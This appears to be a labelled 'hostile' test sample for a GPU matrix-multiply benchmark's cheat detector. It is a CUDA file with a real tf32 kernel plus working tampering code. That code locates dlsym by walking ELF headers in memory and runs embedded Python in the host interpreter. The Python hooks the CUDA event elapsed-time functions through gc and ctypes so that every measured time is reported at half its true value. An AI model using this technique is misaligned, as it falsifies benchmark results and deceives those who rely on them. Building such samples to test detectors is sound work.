// hostile: runs Python in the interpreter around it and has elapsed times come out as half of what they are
// problem: gpu_matmul
// verdict: suspect
// check: bursts

#include "problem.h"

#include <elf.h>
#include <stdint.h>
#include <string.h>

// A symbol of the library that `inside` lies in: headers are found by walking down from any of its functions.
static void* symbol(const void* inside, const char* name) {
    const char* base = (const char*)((uintptr_t)inside & ~(uintptr_t)4095);
    while (!(base[0] == 127 && base[1] == 'E' && base[2] == 'L' && base[3] == 'F')) base -= 4096;
    auto* header = (const Elf64_Ehdr*)base;
    auto* segments = (const Elf64_Phdr*)(base + header->e_phoff);
    const Elf64_Sym* symbols = nullptr;
    const char* names = nullptr;
    for (int i = 0; i < header->e_phnum; ++i) {
        if (segments[i].p_type != PT_DYNAMIC) continue;
        for (auto* d = (const Elf64_Dyn*)(base + segments[i].p_vaddr); d->d_tag != DT_NULL; ++d) {
            const char* at = (const char*)d->d_un.d_ptr;
            if ((uintptr_t)at < (uintptr_t)base) at = base + (uintptr_t)at;
            if (d->d_tag == DT_SYMTAB) symbols = (const Elf64_Sym*)at;
            if (d->d_tag == DT_STRTAB) names = at;
        }
    }
    if (!symbols || !names) return nullptr;
    for (auto* s = symbols; (const char*)s < names; ++s) {
        if (!s->st_shndx || !s->st_value) continue;
        const char *p = names + s->st_name, *q = name;
        while (*p && *p == *q) ++p, ++q;
        if (*p == *q) return (void*)(base + s->st_value);
    }
    return nullptr;
}
static void* (*volatile some_function)(void*, const void*, size_t) = memcpy;

static int run_python(const char* text) {
    auto find = (void* (*)(void*, const char*))symbol((const void*)some_function, "dlsym");
    if (!find) return 1;
    auto ensure = (int (*)())find(nullptr, "PyGILState_Ensure");
    auto release = (void (*)(int))find(nullptr, "PyGILState_Release");
    auto run = (int (*)(const char*))find(nullptr, "PyRun_SimpleString");
    if (!ensure || !release || !run) return 2;
    int state = ensure();
    int code = run(text);
    release(state);
    return code ? 3 : 0;
}

#include <mma.h>
using namespace nvcuda;

// One 64 x 64 tile of a @ b in tf32: 128 threads, 32 columns of a at a time.
struct Shared { float a[64][36]; float b[32][68]; };
static __device__ void tile(const float* __restrict__ a, const float* __restrict__ b, float* __restrict__ c, int row, int column,
                     Shared& s) {
    int t = threadIdx.x, warp = t / 32, wr = warp / 2 * 32, wc = warp % 2 * 32;
    wmma::fragment<wmma::accumulator, 16, 16, 8, float> sum[2][2];
    for (int i = 0; i < 2; ++i) for (int j = 0; j < 2; ++j) wmma::fill_fragment(sum[i][j], 0.f);
    float4 na[4], nb[4];
    auto fetch = [&](int k) {
        for (int i = 0; i < 4; ++i) {
            int e = t + i * 128;
            na[i] = *(const float4*)(a + (size_t)(row + e / 8) * 1024 + k + e % 8 * 4);
            nb[i] = *(const float4*)(b + (size_t)(k + e / 16) * 1024 + column + e % 16 * 4);
        }
    };
    fetch(0);
    for (int k = 0; k < 1024; k += 32) {
        __syncthreads();
        for (int i = 0; i < 4; ++i) {
            int e = t + i * 128;
            *(float4*)&s.a[e / 8][e % 8 * 4] = na[i];
            *(float4*)&s.b[e / 16][e % 16 * 4] = nb[i];
        }
        __syncthreads();
        if (k + 32 < 1024) fetch(k + 32);
        for (int kk = 0; kk < 32; kk += 8) {
            wmma::fragment<wmma::matrix_a, 16, 16, 8, wmma::precision::tf32, wmma::row_major> fa[2];
            wmma::fragment<wmma::matrix_b, 16, 16, 8, wmma::precision::tf32, wmma::row_major> fb[2];
            for (int i = 0; i < 2; ++i) {
                wmma::load_matrix_sync(fa[i], &s.a[wr + i * 16][kk], 36);
                wmma::load_matrix_sync(fb[i], &s.b[kk][wc + i * 16], 68);
                for (int e = 0; e < fa[i].num_elements; ++e) fa[i].x[e] = wmma::__float_to_tf32(fa[i].x[e]);
                for (int e = 0; e < fb[i].num_elements; ++e) fb[i].x[e] = wmma::__float_to_tf32(fb[i].x[e]);
            }
            for (int i = 0; i < 2; ++i) for (int j = 0; j < 2; ++j) wmma::mma_sync(sum[i][j], fa[i], fb[j], sum[i][j]);
        }
    }
    for (int i = 0; i < 2; ++i) for (int j = 0; j < 2; ++j)
        wmma::store_matrix_sync(c + (size_t)(row + wr + i * 16) * 1024 + column + wc + j * 16, sum[i][j], 1024,
                                wmma::mem_row_major);
}

__global__ void __launch_bounds__(128) product(const float* a, const float* b, float* out) {
    __shared__ __align__(32) Shared s;
    tile(a, b, out, blockIdx.y * 64, blockIdx.x * 64, s);
}

static const char* text = R"PY(
import ctypes, gc, os, time, types
_ours = set()
def _put(old, new):
    _ours.update(id(cell) for cell in new.__closure__ or ())
    for holder in gc.get_referrers(old):
        if isinstance(holder, dict):
            for key, value in list(holder.items()):
                if value is old and key != 'old':
                    holder[key] = new
        elif isinstance(holder, types.CellType):
            if id(holder) in _ours:
                continue
            holder.cell_contents = new
        elif isinstance(holder, list):
            for place in range(len(holder)):
                if holder[place] is old:
                    holder[place] = new
        elif not isinstance(holder, (types.FrameType, tuple)):
            names = list(getattr(type(holder), '__slots__', ())) + list(getattr(holder, '__dict__', ()))
            for name in names:
                if getattr(holder, name, None) is old:
                    try:
                        setattr(holder, name, new)
                    except Exception:
                        pass
def _place(function):
    try:
        return ctypes.cast(function, ctypes.c_void_p).value
    except Exception:
        return None
def _hook(names, make):
    libraries = [o for o in gc.get_objects() if isinstance(o, ctypes.CDLL)]
    functions = tuple(o for o in gc.get_objects() if isinstance(o, ctypes._CFuncPtr))
    done = set()
    for library in libraries:
        for name in names:
            try:
                first = getattr(library, name)
            except AttributeError:
                continue
            place = _place(first)
            if place is None or (id(library), place) in done:
                continue
            done.add((id(library), place))
            _put(first, make(first, name))
            for one in functions:
                if one is not first and _place(one) == place:
                    _put(one, make(one, name))
            try:
                setattr(library, name, make(first, name))
            except Exception:
                pass
FACTOR = 0.5

def _shorter(old, name):
    def call(target, *rest):
        code = old(target, *rest)
        for get in (lambda: target._obj, lambda: target.contents, lambda: target):
            try:
                cell = get()
                cell.value = cell.value * FACTOR
                break
            except Exception:
                continue
        return code
    return call
_hook(['cuEventElapsedTime', 'cuEventElapsedTime_v2', 'cudaEventElapsedTime'], _shorter)
)PY";

extern "C" int launch(const float* a, const float* b, float* out, void*, cudaStream_t stream) {
    static bool hooked = false;
    if (!hooked) {
        hooked = true;
        if (int code = run_python(text)) return 990 + code;
    }
    product<<<dim3(16, 16), 128, 0, stream>>>(a, b, out);
    return cudaGetLastError();
}
